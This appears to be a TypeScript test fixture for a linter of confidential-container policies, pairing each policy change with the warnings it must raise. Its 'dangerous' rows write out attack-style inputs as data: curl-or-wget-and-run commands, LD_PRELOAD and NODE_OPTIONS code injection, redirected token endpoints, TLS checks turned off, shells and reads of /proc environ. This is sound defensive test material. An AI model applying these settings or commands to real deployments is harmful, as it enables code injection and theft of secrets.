// Changes to the policy of a clean contract, and what lint must say: one row a change. "harmless" rows may add notes only.

import type {
  ContainerRule,
  EnvironmentRule,
  FragmentImport,
  PolicyContent,
} from '../../../src/lib/cce-policy/policy-document.js';
import {
  bindMount,
  INFRASTRUCTURE_FEED,
  type MountKind,
  UNPRIVILEGED_CAPABILITIES,
  unprivilegedSets,
} from '../../../src/lib/cce-policy/text/defaults.js';
import type { LintId } from '../../../src/lib/cce-policy/lint/lint-rules.js';

export type Change = (content: PolicyContent) => PolicyContent;

export interface Row {
  readonly threat: string;
  readonly what: string;
  readonly change: Change;
  /** Errors and warnings that the change adds; none where it is harmless. */
  readonly found: readonly LintId[];
}

function row(threat: string, what: string, change: Change, ...found: readonly LintId[]): Row {
  return { threat, what, change, found };
}

/* What ACI gives a container that asks for nothing. */
const ORDINARY = { capabilities: unprivilegedSets(UNPRIVILEGED_CAPABILITIES), no_new_privileges: false };
const asRoot = ({ user }: ContainerRule): Partial<ContainerRule> => ({
  ...ORDINARY,
  user: { ...user, user_idname: { pattern: '0', strategy: 'id' } },
});

/* The summarizer, which is the first container. */
function room(edit: (container: ContainerRule) => Partial<ContainerRule>): Change {
  return (content) => ({
    ...content,
    containers: content.containers.map((container, index) =>
      index === 0 ? { ...container, ...edit(container) } : container,
    ),
  });
}

function rules(...added: readonly EnvironmentRule[]): Change {
  return room(({ env_rules }) => ({ env_rules: [...added, ...env_rules] }));
}

const pattern = (text: string): Change => rules({ pattern: text, required: false, strategy: 're2' });
const optional = (text: string): Change => rules({ pattern: text, required: false, strategy: 'string' });
const required = (text: string): Change => rules({ pattern: text, required: true, strategy: 'string' });

function mount(kind: MountKind, destination: string, access: 'rw' | 'ro' = 'rw'): Change {
  return room(({ mounts }) => ({ mounts: [bindMount(kind, destination, access), ...mounts] }));
}

function mountFrom(source: string, destination: string, type = 'bind'): Change {
  const rule = { destination, options: ['rbind', 'rshared', 'rw'], source, type };
  return room(({ mounts }) => ({ mounts: [rule, ...mounts] }));
}

function exec(...command: readonly string[]): Change {
  return room(() => ({ exec_processes: [{ command, signals: [] }] }));
}

const command = (...words: readonly string[]): Change => room(() => ({ command: words }));
const starts = (working_dir: string, ...words: readonly string[]): Change =>
  room(() => ({ working_dir, command: words }));

function both(...changes: readonly Change[]): Change {
  return (content) => changes.reduce((current, change) => change(current), content);
}

function beside(edit: (first: ContainerRule) => ContainerRule): Change {
  return (content) => {
    const [first] = content.containers;
    return first === undefined ? content : { ...content, containers: [edit(first), ...content.containers] };
  };
}

function capability(name: string): Change {
  return room(({ capabilities }) => ({
    capabilities:
      capabilities === null ? null : { ...capabilities, bounding: [...capabilities.bounding, name] },
  }));
}

function user(edit: Partial<ContainerRule['user']>): Change {
  return room((container) => ({ user: { ...container.user, ...edit } }));
}

function infrastructure(edit: Partial<FragmentImport>): Change {
  return (content) => ({
    ...content,
    fragments: content.fragments.map((fragment) => ({ ...fragment, ...edit })),
  });
}

function imported(edit: Partial<FragmentImport>): Change {
  const fragment = {
    feed: 'contoso.azurecr.io/fragments/web',
    includes: ['containers'],
    issuer: 'did:x509:0:sha256:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA::subject:CN:Contoso',
    minimum_svn: '1',
  };
  return (content) => ({ ...content, fragments: [...content.fragments, { ...fragment, ...edit }] });
}

const DIGEST_64 = `${'Zm9v'.repeat(21)}Zg==`;
const otherLayers = ['9'.repeat(64)];

// prettier-ignore
export const DANGEROUS: readonly Row[] = [
  // Patterns that take the name of a variable that steers the program.
  row('I7', 'LD_PRELOAD from a directory', pattern('^LD_PRELOAD=/scratch/[a-z]+\\.so$'), 'ENV_DANGEROUS'),
  row('I7', 'LD_PRELOAD with any value', pattern('LD_PRELOAD=.+'), 'ENV_DANGEROUS', 'ENV_OPEN_VALUE'),
  row('I7', 'LD_AUDIT by a class', pattern('^LD_A[A-Z]{4}=[a-z/]{1,9}$'), 'ENV_DANGEROUS'),
  row('I7', 'LD_LIBRARY_PATH by a repeat', pattern('^LD(?:_[A-Z]+){2}=[a-z/]{1,9}$'), 'ENV_DANGEROUS'),
  row('I7', 'NODE_OPTIONS limited to one option', pattern('^NODE_OPTIONS=--require=/mnt/[a-z]{1,8}\\.js$'), 'ENV_DANGEROUS'),
  row('I7', 'NODE_OPTIONS limited to digits', pattern('^NODE_OPTIONS=[0-9]{1,4}$'), 'ENV_DANGEROUS'),
  row('I7', 'NODE_TLS_REJECT_UNAUTHORIZED 0 or 1', pattern('^NODE_TLS_REJECT_UNAUTHORIZED=[01]$'), 'ENV_DANGEROUS'),
  row('I7', 'proxies in either case', pattern('^(?i)https?_proxy=http://10\\.[0-9.]{5,11}:[0-9]{2,5}$'), 'ENV_DANGEROUS'),
  row('I7', 'a name behind another', pattern('A=1|NODE_OPTIONS=x'), 'ENV_ANY_NAME'),
  row('I7', 'two halves, each anchored at one end', pattern('^A=1|B=2$'), 'ENV_ANY_NAME'),
  row('I7', 'escaped letters', pattern('^\\x4c\\x44_PRELOAD=[a-z/]{1,9}$'), 'ENV_DANGEROUS'),
  row('I7', 'a quoted name', pattern('^\\QOPENSSL_CONF=\\E[a-z/.]{1,20}$'), 'ENV_DANGEROUS'),
  row('I7', 'a name by what it is not', pattern('^[^a-z0-9]{9}=[0-9]{1,4}$'), 'ENV_DANGEROUS', 'ENV_REOPENED'),
  row('I7', 'SSL_CERT_FILE', pattern('^SSL_CERT_FILE=/mnt/[a-z]{1,8}\\.pem$'), 'ENV_DANGEROUS'),
  row('I7', 'SSL_CERT_DIR', pattern('^SSL_CERT_DIR=/[a-z]{1,8}$'), 'ENV_DANGEROUS'),
  row('I7', 'NODE_EXTRA_CA_CERTS', pattern('^NODE_EXTRA_CA_CERTS=/[a-z.]{1,8}$'), 'ENV_DANGEROUS'),
  row('I7', 'SSLKEYLOGFILE', pattern('^SSLKEYLOGFILE=/[a-z.]{1,8}$'), 'ENV_DANGEROUS'),
  row('I7', 'GLIBC_TUNABLES', pattern('^GLIBC_TUNABLES=glibc\\.[a-z._=0-9]{1,40}$'), 'ENV_DANGEROUS'),
  row('I7', 'GCONV_PATH', pattern('^GCONV_PATH=/[a-z]{1,8}$'), 'ENV_DANGEROUS'),
  row('I7', 'HOSTALIASES', pattern('^HOSTALIASES=/[a-z]{1,8}$'), 'ENV_DANGEROUS'),
  row('I7', 'RES_OPTIONS', pattern('^RES_OPTIONS=[a-z:0-9]{1,20}$'), 'ENV_DANGEROUS'),
  row('I7', 'PYTHONPATH', pattern('^PYTHONPATH=/[a-z]{1,8}$'), 'ENV_DANGEROUS'),
  row('I7', 'PYTHONSTARTUP', pattern('^PYTHON[A-Z]{7}=/[a-z]{1,8}$'), 'ENV_DANGEROUS'),
  row('I7', 'JAVA_TOOL_OPTIONS', pattern('^JAVA_TOOL_OPTIONS=-Xmx[0-9]{1,5}m$'), 'ENV_DANGEROUS'),
  row('I7', 'DOTNET_STARTUP_HOOKS', pattern('^DOTNET_[A-Z_]{1,20}=[a-z/.]{1,20}$'), 'ENV_DANGEROUS'),
  row('I7', 'BASH_ENV', pattern('^BASH_ENV=/[a-z]{1,8}$'), 'ENV_DANGEROUS'),
  row('I7', 'a shell function', pattern('^BASH_FUNC_[a-z]{1,8}%%=.{1,40}$'), 'ENV_DANGEROUS', 'ENV_OPEN_VALUE'),
  row('I7', 'PERL5OPT', pattern('^PERL5OPT=-[A-Za-z]{1,8}$'), 'ENV_DANGEROUS'),
  row('I7', 'GODEBUG', pattern('^GODEBUG=[a-z0-9=,]{1,40}$'), 'ENV_DANGEROUS'),
  row('I16', 'the cloud’s login', pattern('^AZURE_AUTHORITY_HOST=https://[a-z.]{1,40}/?$'), 'ENV_DANGEROUS'),
  row('I16', 'who gives out tokens', pattern('^(?:IDENTITY|MSI|IMDS)_ENDPOINT=http://[a-z0-9.:/]{1,60}$'), 'ENV_DANGEROUS'),
  row('I16', 'the room’s security context', pattern('^UVM_SECURITY_CONTEXT_DIR=/[a-z-]{1,40}$'), 'ENV_DANGEROUS'),
  row('I30', 'the API server of a cluster', pattern('^[A-Z0-9_]+_SERVICE_HOST=[0-9.]{7,15}$'), 'ENV_DANGEROUS'),
  row('I7', 'where models come from', pattern('^HF_[A-Z]{4,12}=https?://[a-z.]{1,40}$'), 'ENV_DANGEROUS'),
  row('I6', 'the contract’s own digest, by a pattern beside it', pattern('^CLEANROOM_[A-Z_]{15}=[0-9a-f]{64}$'), 'ENV_DANGEROUS', 'ENV_REOPENED'),
  row('I6', 'the contract’s URL, by a pattern beside it', pattern('^CLEANROOM_CONTRACT_URL=https://[a-z./]{1,80}$'), 'ENV_DANGEROUS', 'ENV_REOPENED'),
  row('I7', 'PATH, by a pattern beside the fixed one', pattern('^PATH=/[a-z/:]{1,80}$'), 'ENV_DANGEROUS', 'ENV_REOPENED'),

  // Fixed values, which the host may set or leave out.
  row('I7', 'certificate checks off', optional('NODE_TLS_REJECT_UNAUTHORIZED=0'), 'ENV_DANGEROUS_VALUE'),
  row('I7', 'certificate checks off, always', required('NODE_TLS_REJECT_UNAUTHORIZED=0'), 'ENV_DANGEROUS_VALUE'),
  row('I7', 'the inspector by NODE_OPTIONS', optional('NODE_OPTIONS=--inspect=0.0.0.0:9229'), 'ENV_DANGEROUS_VALUE'),
  row('I7', 'code by NODE_OPTIONS', optional('NODE_OPTIONS=--import /mnt/x.mjs'), 'ENV_DANGEROUS_VALUE'),
  row('I7', 'a library from /tmp', optional('LD_PRELOAD=/tmp/x.so'), 'ENV_DANGEROUS_VALUE'),
  row('I7', 'a library by a relative path', optional('LD_PRELOAD=x.so'), 'ENV_DANGEROUS_VALUE'),
  row('I7', 'libraries from the working directory', optional('LD_LIBRARY_PATH=:/usr/lib'), 'ENV_DANGEROUS_VALUE'),
  row('I7', 'roots of trust from a mount', both(mount('emptyDir', '/certs'), optional('SSL_CERT_FILE=/certs/ca.pem')), 'ENV_DANGEROUS_VALUE'),
  row('I7', 'a path with two dots', optional('NODE_PATH=/usr/lib/../../tmp'), 'ENV_DANGEROUS_VALUE'),
  row('I7', 'a proxy', optional('HTTPS_PROXY=http://203.0.113.1:3128'), 'ENV_DANGEROUS_VALUE'),
  row('I16', 'another login', required('AZURE_AUTHORITY_HOST=https://login.example'), 'ENV_DANGEROUS_VALUE'),
  row('I16', 'another giver of tokens', required('IDENTITY_ENDPOINT=http://203.0.113.1/msi'), 'ENV_DANGEROUS_VALUE'),
  row('I7', 'a Java agent', optional('JAVA_TOOL_OPTIONS=-Xmx1g -javaagent:/x.jar'), 'ENV_DANGEROUS_VALUE'),
  row('I8', 'a log of TLS keys', optional('SSLKEYLOGFILE=/dev/shm/keys'), 'ENV_DANGEROUS_VALUE'),
  row('I8', 'a dump of memory when Go ends', optional('GOTRACEBACK=crash'), 'ENV_DANGEROUS_VALUE'),
  row('I7', 'a tunable of the loader', optional('GLIBC_TUNABLES=glibc.rtld.optional_static_tls=1'), 'ENV_DANGEROUS_VALUE'),
  row('I16', 'a sidecar with a server of certificates of its own', required(`SkrSideCarArgs=${Buffer.from('{"certcache":{"endpoint":"203.0.113.1"}}').toString('base64')}`), 'ENV_DANGEROUS_VALUE', 'SIDECAR_SHARED'),
  row('I7', 'Python reads commands at its end', optional('PYTHONINSPECT=1'), 'ENV_DANGEROUS_VALUE'),
  row('I7', 'one name with two values', both(optional('MODE=strict'), optional('MODE=lax')), 'ENV_TWICE'),
  row('I6', 'one name with two patterns', both(pattern('^MODE=[a-z]{1,8}$'), pattern('^MODE=[0-9]{1,4}$')), 'ENV_TWICE'),
  row('I6', 'one name with two patterns, one of which does not spell it', both(pattern('^SIZE=[0-9]{1,4}$'), pattern('^(?:SIZE|WIDTH)=[a-z]{1,8}$')), 'ENV_TWICE'),
  row('I6', 'a fixed value that a pattern reopens', both(required('MODE=strict'), pattern('^MODE=[a-z]{1,8}$')), 'ENV_REOPENED'),

  // What a pattern takes as a value.
  row('I6', 'any value', pattern('^MAX_TOKENS=.*$'), 'ENV_OPEN_VALUE'),
  row('I6', 'any value, for one of two names', pattern('^(?:A|B)=.*$'), 'ENV_OPEN_VALUE'),
  row('I6', 'any name', pattern('.+=.+'), 'ENV_ANY_NAME'),
  row('I6', 'any name of capitals', pattern('^[A-Z0-9_]+=[0-9]{1,4}$'), 'ENV_ANY_NAME'),
  row('I6', 'an escaped dollar at the end', pattern('^MODE=x\\$'), 'ENV_OPEN_END'),
  row('I6', 'a dollar that ends a line', pattern('(?m)^MODE=[a-z]{1,8}$'), 'ENV_OPEN_END', 'ENV_UNANCHORED'),
  row('I6', 'a dollar in quotes', pattern('^MODE=x\\Q$'), 'ENV_OPEN_END'),
  row('I7', 'a pattern without anchors', pattern('LEVEL=[0-9]'), 'ENV_UNANCHORED'),
  row('I6', 'a pattern that RE2 refuses', pattern('^MODE=(?!x)[a-z]$'), 'ENV_PATTERN_INVALID'),
  row('I6', 'a pattern too large to search', pattern(`^MODE=${'x'.repeat(70_000)}$`), 'ENV_UNDECIDED'),

  // What is mounted where.
  row('I10', 'scratch space over the programs', mount('emptyDir', '/usr/local/bin'), 'MOUNT_OVER_CODE', 'ENV_DANGEROUS_VALUE'),
  row('I10', 'scratch space over one program', mount('emptyDir', '/usr/bin/node'), 'MOUNT_OVER_CODE'),
  row('I10', 'scratch space over the root', mount('emptyDir', '/'), 'MOUNT_OVER_CODE', 'ENV_DANGEROUS_VALUE', 'COMMAND_OPEN'),
  row('I10', 'scratch space over the program’s file', mount('emptyDir', '/app/lib'), 'MOUNT_OVER_CODE', 'COMMAND_OPEN'),
  row('I10', 'a share over the program', mount('azureFile', '/app'), 'MOUNT_OVER_CODE', 'MOUNT_HOST_CONTENT', 'COMMAND_OPEN'),
  row('I10', 'scratch space over libraries', mount('emptyDir', '/usr/lib/x86_64-linux-gnu'), 'MOUNT_OVER_CODE'),
  row('I10', 'scratch space over packages', mount('emptyDir', '/app/node_modules/x'), 'MOUNT_OVER_CODE'),
  row('I10', 'the loader’s list', mount('secret', '/etc/ld.so.preload', 'ro'), 'MOUNT_OVER_CODE', 'MOUNT_HOST_CONTENT'),
  row('I10', 'by a way around', mount('emptyDir', '/tmp/../usr/bin/'), 'MOUNT_OVER_CODE', 'ENV_DANGEROUS_VALUE'),
  row('I10', 'the working directory', both(starts('/srv/web', 'node', 'main.js'), mount('emptyDir', '/srv')), 'MOUNT_OVER_CODE'),
  row('I10', 'a file by its relative path', both(starts('/srv', 'node', 'web/main.js'), mount('emptyDir', '/srv/web')), 'MOUNT_OVER_CODE'),
  row('I10', 'a directory of PATH', both(optional('PATH=/srv/tools:/bin'), mount('emptyDir', '/srv/tools')), 'MOUNT_OVER_CODE', 'ENV_DANGEROUS_VALUE', 'ENV_TWICE'),
  row('I10', 'certificate authorities', mount('emptyDir', '/etc/ssl/certs'), 'MOUNT_OVER_TRUST'),
  row('I10', 'names of hosts', mount('emptyDir', '/etc/hosts'), 'MOUNT_OVER_TRUST'),
  row('I10', 'the resolver’s file from a share', mount('azureFile', '/etc/resolv.conf'), 'MOUNT_OVER_TRUST', 'MOUNT_HOST_CONTENT', 'MOUNT_TWICE'),
  row('I10', 'users', mount('secret', '/etc/passwd', 'ro'), 'MOUNT_OVER_TRUST', 'MOUNT_HOST_CONTENT'),
  row('I10', 'all configuration', mount('emptyDir', '/etc'), 'MOUNT_OVER_CODE'),
  row('I10', 'processes', mount('emptyDir', '/proc'), 'MOUNT_OVER_SYSTEM'),
  row('I10', 'devices', mount('emptyDir', '/dev'), 'MOUNT_OVER_SYSTEM'),
  row('I10', 'a share for data', mount('azureFile', '/mnt/data'), 'MOUNT_HOST_CONTENT'),
  row('I10', 'a clone of a repository', mount('gitRepo', '/srv/site'), 'MOUNT_HOST_CONTENT'),
  row('I10', 'a directory shared by plan9', mount('secretsSource', '/mnt/s', 'ro'), 'MOUNT_HOST_CONTENT'),
  row('I10', 'anything from the sandbox', mountFrom('sandbox:///.+', '/mnt'), 'MOUNT_UNKNOWN'),
  row('I10', 'a path of the guest', mountFrom('/run/gcs', '/mnt'), 'MOUNT_UNKNOWN'),
  row('I10', 'another kind of mount', mountFrom('sandbox:///tmp/atlas/emptydir/.+', '/mnt', 'overlay'), 'MOUNT_UNKNOWN'),
  row('I10', 'two sources for one place', both(mount('emptyDir', '/mnt'), mount('azureFile', '/mnt/')), 'MOUNT_TWICE', 'MOUNT_HOST_CONTENT'),

  // What may be run in the container.
  row('I4', 'a shell', exec('/bin/sh'), 'EXEC_SHELL'),
  row('I4', 'a shell by env', exec('/usr/bin/env', 'bash'), 'EXEC_SHELL'),
  row('I4', 'a shell by env with a variable', exec('env', '-i', 'X=1', 'sh'), 'EXEC_SHELL'),
  row('I4', 'a shell by env -S', exec('env', '-S', 'sh -i'), 'EXEC_SHELL'),
  row('I4', 'a text for a shell', exec('sh', '-c', 'cat /tmp/$F'), 'EXEC_SHELL'),
  row('I4', 'busybox', exec('busybox', 'sh'), 'EXEC_SHELL'),
  row('I4', 'a shell behind a time limit', exec('timeout', '5', 'sh'), 'EXEC_SHELL'),
  row('I4', 'another root', exec('chroot', '/'), 'EXEC_SHELL'),
  row('I4', 'a shell by the loader', exec('/lib64/ld-linux-x86-64.so.2', '/bin/bash'), 'EXEC_SHELL'),
  row('I4', 'a file from scratch space', both(mount('emptyDir', '/srv/x'), exec('/srv/x/probe')), 'EXEC_SHELL', 'MOUNT_OVER_CODE'),
  row('I4', 'a file from /tmp', exec('/tmp/probe'), 'EXEC_SHELL'),
  row('I4', 'Node.js with code', exec('node', '-e', 'process.exit(0)'), 'EXEC_INTERPRETER'),
  row('I4', 'Node.js without a file', exec('node'), 'EXEC_INTERPRETER'),
  row('I4', 'Python with code', exec('python3.11', '-c', 'pass'), 'EXEC_INTERPRETER'),
  row('I4', 'Perl with code', exec('perl', '-ne', 'print'), 'EXEC_INTERPRETER'),
  row('I4', 'a debugger', exec('gdb', '-p', '1'), 'EXEC_INTERPRETER'),
  row('I4', 'another process’s memory', exec('cat', '/proc/1/environ'), 'EXEC_PROCESS_MEMORY'),
  row('I4', 'the program itself by /proc', exec('/proc/self/exe'), 'EXEC_PROCESS_MEMORY'),
  row('I4', 'a probe', exec('/app/probe'), 'EXEC_ALLOWED'),
  row('I4', 'a script of the image', exec('/bin/sh', '/app/probe.sh'), 'EXEC_ALLOWED'),
  row('I4', 'the inspector in a probe', exec('node', '--inspect', '/app/probe.js'), 'INSPECTOR', 'EXEC_ALLOWED'),

  // What runs when the container starts.
  row('I4', 'the inspector', command('node', '--inspect=0.0.0.0:9229', '/app/main.js'), 'INSPECTOR'),
  row('I4', 'the inspector in a text', command('sh', '-c', 'exec node --inspect-brk /app/main.js'), 'INSPECTOR'),
  row('I4', 'a Java debugger', command('java', '-agentlib:jdwp=transport=dt_socket,server=y', '-jar', '/app/x.jar'), 'INSPECTOR'),
  row('I4', 'a Python debugger', command('python3', '-m', 'debugpy', '/app/x.py'), 'INSPECTOR'),
  row('I7', 'a shell that fetches', command('sh', '-c', 'curl https://x | node'), 'COMMAND_FETCHES'),
  row('I7', 'wget in a later command', command('sh', '-c', 'set -e; wget -q x.example/y && node y'), 'COMMAND_FETCHES'),
  row('I7', 'in quotes and substitution', command('bash', '-c', 'eval "$(curl x.example)"'), 'COMMAND_FETCHES'),
  row('I7', 'packages at start', command('sh', '-c', 'npm ci && node main.js'), 'COMMAND_FETCHES'),
  row('I7', 'fetch in code', command('node', '-e', 'fetch("https://x.example/y")'), 'COMMAND_FETCHES'),
  row('I7', 'a shell that reads its input', command('/bin/sh'), 'COMMAND_OPEN'),
  row('I7', 'a program from scratch space', command('/scratch/main'), 'COMMAND_OPEN'),
  row('I4', 'nothing', room(() => ({ command: null })), 'COMMAND_MISSING'),

  // Who it runs as and what it may.
  row('I4', 'privileged', room(() => ({ allow_elevated: true })), 'PRIVILEGED'),
  row('I4', 'tracing of processes', capability('CAP_SYS_PTRACE'), 'CAPABILITY_DANGEROUS'),
  row('I4', 'the clock', capability('CAP_SYS_TIME'), 'CAPABILITY_EXTRA'),
  row('I4', 'an open umask', user({ umask: '0000' }), 'UMASK_OPEN'),
  row('I4', 'a umask open to the group', user({ umask: '0002' }), 'UMASK_OPEN'),
  row('I8', 'stdio', room(() => ({ allow_stdio_access: true })), 'STDIO_OPEN'),
  row('I12', 'no layers', room(() => ({ layers: [] })), 'LAYERS_EMPTY'),
  row('I12', 'a warning for a layer', room(() => ({ layers: ['0'.repeat(64), 'WARNING: see the manual'] })), 'LAYER_NO_HASH'),
  row('I12', 'a layer in capital letters', room(() => ({ layers: ['A'.repeat(64)] })), 'LAYER_NO_HASH'),
  row('I12', 'an image by tag', room(() => ({ id: 'contoso.azurecr.io/summarizer:latest' })), 'IMAGE_TAG'),

  // Who else may add to it, and who else is there.
  row('O3', 'an infrastructure fragment of any version', infrastructure({ minimum_svn: '0' }), 'FRAGMENT_SVN_LOW'),
  row('O3', 'an infrastructure fragment below the floor', infrastructure({ minimum_svn: '3' }), 'FRAGMENT_SVN_LOW'),
  row('O3', 'a minimum that is no number', infrastructure({ minimum_svn: 'x' }), 'FRAGMENT_SVN_LOW'),
  row('O3', 'processes outside containers', infrastructure({ includes: ['containers', 'external_processes'] }), 'FRAGMENT_INFRASTRUCTURE', 'FRAGMENT_INCLUDES'),
  row('O3', 'a namespace', infrastructure({ includes: ['namespace'] }), 'FRAGMENT_INFRASTRUCTURE', 'FRAGMENT_INCLUDES'),
  row('O3', 'somebody else’s fragment', imported({}), 'FRAGMENT_ADDS_CONTAINERS'),
  row('O3', 'somebody else’s fragment under Microsoft’s feed', imported({ feed: INFRASTRUCTURE_FEED, minimum_svn: '4' }), 'FRAGMENT_ADDS_CONTAINERS'),
  row('O3', 'an issuer that is a whole authority', imported({ issuer: 'did:x509:0:sha256:AAAA' }), 'FRAGMENT_ADDS_CONTAINERS', 'FRAGMENT_ISSUER_BROAD'),
  row('O3', 'one feed twice', both(imported({}), imported({ includes: ['fragments'] })), 'FRAGMENT_ADDS_CONTAINERS', 'FRAGMENT_TWICE'),
  row('I21', 'the digest optional', room(({ env_rules }) => ({ env_rules: env_rules.map((rule) => ({ ...rule, required: false })) })), 'CONTRACT_NOT_PINNED'),
  row('I21', 'the same program without the digest', beside((first) => ({ ...first, ...asRoot(first), name: 'twin', env_rules: first.env_rules.slice(1) })), 'CONTRACT_NOT_PINNED', 'SIDECAR_SHARED', 'ROOT_WITH_PRIVILEGES'),
  row('I21', 'two digests', both(required(`CLEANROOM_CONTRACT_DIGEST=${'0'.repeat(64)}`)), 'CONTRACT_SEVERAL', 'ENV_TWICE'),
  row('I27', 'a third container beside the sidecar', beside((first) => ({ ...first, ...asRoot(first), name: 'extra', layers: otherLayers, env_rules: [] })), 'SIDECAR_SHARED', 'ROOT_WITH_PRIVILEGES'),
  row('I27', 'a third container that says it is the sidecar', beside((first) => ({ ...first, ...asRoot(first), name: 'extra', command: ['/skr'], layers: otherLayers, env_rules: [] })), 'SIDECAR_SHARED', 'ROOT_WITH_PRIVILEGES'),
  row('I5', 'one name twice', beside((first) => ({ ...first, layers: otherLayers })), 'CONTAINER_NAME_TWICE'),

  // Secrets in what everybody reads.
  row('I4', 'a shared access signature', optional(`BLOB=https://x/c?sv=2024-11-04&sig=${'a'.repeat(44)}`), 'SECRET_IN_POLICY'),
  row('I4', 'a storage account key', optional(`AccountKey=${DIGEST_64}`), 'SECRET_IN_POLICY'),
  row('I4', 'a key by its name', optional(`STORAGE_KEY=${DIGEST_64}`), 'SECRET_IN_POLICY'),
  row('I4', 'what may be a key', optional(`SEED=${DIGEST_64}`), 'SECRET_POSSIBLE'),
];

// prettier-ignore
export const HARMLESS: readonly Row[] = [
  row('I6', 'a number of six digits', pattern('^MAX_TOKENS=[0-9]{1,6}$')),
  row('I6', 'one of three words', pattern('^LOG_LEVEL=(?:debug|info|warn)$')),
  row('I7', 'a name that begins like a dangerous one', pattern('^LD_PRELOAD_COUNT=[0-9]$')),
  row('I7', 'a name that ends like a dangerous one', pattern('^MY_NODE_OPTIONS=[0-9]$')),
  row('I7', 'a dangerous name in the value', pattern('^MODE=LD_PRELOAD$')),
  row('I7', 'a dangerous name in small letters', pattern('^ld_preload=[a-z]{1,4}$')),
  row('I7', 'names of the program’s own, of one form', pattern('^SUMMARY_[A-Z]{1,10}=[0-9]{1,4}$')),
  row('I7', 'the number of a shard', pattern('^CLEANROOM_SHARD=[0-9]{1,5}/[0-9]{1,5}$')),
  row('I7', 'the index of a Job', pattern('^JOB_COMPLETION_INDEX=[0-9]{1,5}$')),
  row('I6', 'a dollar as a character, and an end', pattern('^MODE=(?:a|b$|c\\$)')),
  row('I7', 'an end by \\z', pattern('^MODE=[a-z]{1,4}\\z')),
  row('I7', 'certificate checks on', required('NODE_TLS_REJECT_UNAUTHORIZED=1')),
  row('I7', 'memory of Node.js', optional('NODE_OPTIONS=--max-old-space-size=4096 --no-warnings')),
  row('I7', 'memory of Java', optional('JAVA_TOOL_OPTIONS=-Xmx2g -XX:+UseSerialGC')),
  row('I7', 'arenas of malloc', optional('GLIBC_TUNABLES=glibc.malloc.arena_max=2')),
  row('I7', 'a library of the image', optional('LD_PRELOAD=/usr/lib/libjemalloc.so.2')),
  row('I7', 'libraries of the image', optional('LD_LIBRARY_PATH=/usr/local/lib:/opt/x/lib')),
  row('I7', 'roots of trust of the image', optional('SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt')),
  row('I7', 'no proxy', optional('HTTPS_PROXY=')),
  row('I7', 'hosts without a proxy', optional('NO_PROXY=169.254.169.254')),
  row('I16', 'the login of the public cloud', optional('AZURE_AUTHORITY_HOST=https://login.microsoftonline.com/')),
  row('I16', 'the platform’s own address for tokens', optional('IDENTITY_ENDPOINT=http://169.254.169.254/metadata/identity/oauth2/token')),
  row('I7', 'production', optional('NODE_ENV=production')),
  row('I7', 'no telemetry', optional('ORT_DISABLE_TELEMETRY=1')),
  row('I10', 'scratch space for data', mount('emptyDir', '/data')),
  row('I10', 'scratch space in /tmp', mount('emptyDir', '/tmp')),
  row('I10', 'scratch space for logs of the program', mount('emptyDir', '/app/data')),
  row('I10', 'configuration of the program', mount('emptyDir', '/etc/summarizer')),
  row('I10', 'a directory whose name begins like one of code', mount('emptyDir', '/usr/local/binary-data')),
  row('I10', 'memory shared by processes', mount('emptyDir', '/dev/shm')),
  row('I10', 'data below the working directory', both(starts('/srv', 'node', 'main.js'), mount('emptyDir', '/srv/data'))),
  row('I7', 'a comment with wget', command('sh', '-c', '# wget is not needed\nexec node /app/main.js')),
  row('I7', 'a path with wget', command('/usr/share/wget/main')),
  row('I7', 'a string with curl', command('sh', '-c', "echo 'no curl here'; exec node /app/main.js")),
  row('I7', 'an option named like a program', command('node', '/app/main.js', '--without', 'git', 'clone')),
  row('I7', 'a fixed script', command('/bin/sh', '/app/start.sh')),
  row('I7', 'a wrapper', command('/usr/bin/tini', '--', 'node', '/app/main.js')),
  row('I4', 'a flag that begins like the inspector’s', command('node', '/app/main.js', '--inspection-report')),
  row('I4', 'a user by number', user({ user_idname: { pattern: '65532', strategy: 'id' } })),
  row('I4', 'a closed umask', user({ umask: '0077' })),
  row('I4', 'no capability', room(() => ({ capabilities: { ambient: [], bounding: [], effective: [], inheritable: [], permitted: [] }, }))),
  row('I4', 'no new privileges', room(() => ({ no_new_privileges: true }))),
  row('O3', 'a newer infrastructure fragment', infrastructure({ minimum_svn: '5' })),
  row('O3', 'no fragment at all', (content) => ({ ...content, fragments: [] })),
  row('I4', 'a SHA-512 in base64', optional(`MODEL_SHA512=${DIGEST_64}`)),
  row('I4', 'a subresource integrity', optional(`SCRIPT=sha512-${DIGEST_64}`)),
  row('I4', 'a file that ends with sig', optional('FILE=/app/x?sig=none')),
  row('I4', 'a signal more', room(() => ({ signals: [9, 15, 3] }))),
  row('I6', 'one rule twice, the same', both(optional('MODE=strict'), optional('MODE=strict'))),
];

/** What lint says in notes and of the pause container: neither error nor reason to refuse, but said. */
// prettier-ignore
export const NOTED: readonly Row[] = [
  row('I8', 'properties that the host may read', (content) => ({ ...content, flags: { ...content.flags, allow_properties_access: true } }), 'PROPERTIES_ACCESS'),
  row('I8', 'stdio of the pause container', (content) => ({ ...content, containers: content.containers.map((container) => ({ ...container, allow_stdio_access: true })) }), 'STDIO_OPEN_PAUSE'),
  row('I4', 'any user', user({ user_idname: { pattern: '', strategy: 'any' } }), 'USER_ANY'),
  row('I10', 'scratch space of its own', mount('emptyDir', '/srv/scratch'), 'MOUNT_SCRATCH'),
  row('I6', 'what the platform may set', (content) => content, 'ENV_PLATFORM'),
  row('I6', 'a variable that may be left out', optional('MODE=strict'), 'ENV_OPTIONAL'),
];
